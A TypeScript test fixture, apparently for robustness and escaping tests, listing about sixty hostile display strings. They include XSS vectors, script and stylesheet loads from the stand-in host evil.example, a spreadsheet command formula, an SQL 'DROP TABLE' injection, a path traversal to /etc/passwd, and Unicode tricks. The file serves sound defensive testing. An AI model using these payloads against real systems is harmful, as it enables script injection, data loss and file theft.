// What others may write into whatever a page shows: sixty texts that try to become something else.

const deep = (levels: number, open: string, close: string): string =>
  `${open.repeat(levels)}1${close.repeat(levels)}`;

export const payloads: readonly string[] = [
  // Markup, in every place where a parser might be.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '<svg onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{display:none!important}</style>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '</pre></td></table></main></body></html>',
  '</script><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  // Addresses.
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://evil.example/"onmouseover="alert(1)',
  '[click](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  // Templates and prototypes.
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '{"__proto__":{"x":1},"constructor":{"prototype":{"x":1}}}',
  '__proto__',
  'toString',
  // Direction and invisible characters.
  '\u202egnp.exe\u202c',
  '\u2066isolated\u2069 \u200f\u200e\u061c',
  'zero\u200bwidth\u200c\u200d\ufeff\u00ad',
  'line\u2028separator\u2029paragraph',
  'tag \u{e0041}\u{e0042}',
  '\u0301\u0302\u0303'.repeat(40),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'.repeat(20),
  'ﷺ﷽'.repeat(20),
  // Shapes.
  'x'.repeat(4000),
  'word '.repeat(800),
  deep(64, '[', ']'),
  deep(500, '{"a":', '}'),
  `{"n":12345678901234567890,"m":1e400,"z":-0}`,
  '\n\n\n\t\t line \r\n line',
  'a\u0000b\u0007c\u001b[31mred\u001b[0m',
  '\ud800 alone \udfff',
  '=1+1|cmd!A1',
  "'; DROP TABLE deliveries; --",
  '../../../../etc/passwd',
  ' ',
];

/** As a name may be: no control characters, whole surrogate pairs, at most so long. */
export function asName(payload: string, max: number): string {
  const name = payload
    .toWellFormed()
    .replaceAll(/\p{Cc}/gu, '')
    .slice(0, max)
    .toWellFormed();
  return name === '' ? 'empty' : name;
}
